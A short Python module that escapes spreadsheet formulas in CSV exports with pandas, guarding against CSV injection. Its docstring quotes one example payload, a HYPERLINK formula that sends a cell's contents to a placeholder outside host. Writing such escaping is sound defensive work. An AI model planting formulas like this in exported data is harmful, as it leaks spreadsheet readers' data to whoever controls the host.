"""CSV cells a spreadsheet will not run: text that starts like a formula gets a leading apostrophe.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, after a
leading tab or carriage return, whatever follows) as a formula, so a prompt such as
``=HYPERLINK("http://x/?"&A1)`` in an exported ledger would run on the reader's machine (OWASP "CSV
injection"). The apostrophe makes the cell plain text; it shows up only in the raw CSV. Numbers stay numbers:
only text cells are touched. Parquet exports keep the exact text (no spreadsheet evaluates them).
"""
from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are ``formula_safe``."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(formula_safe)
    safe.columns = [formula_safe(c) for c in safe.columns]
    return safe
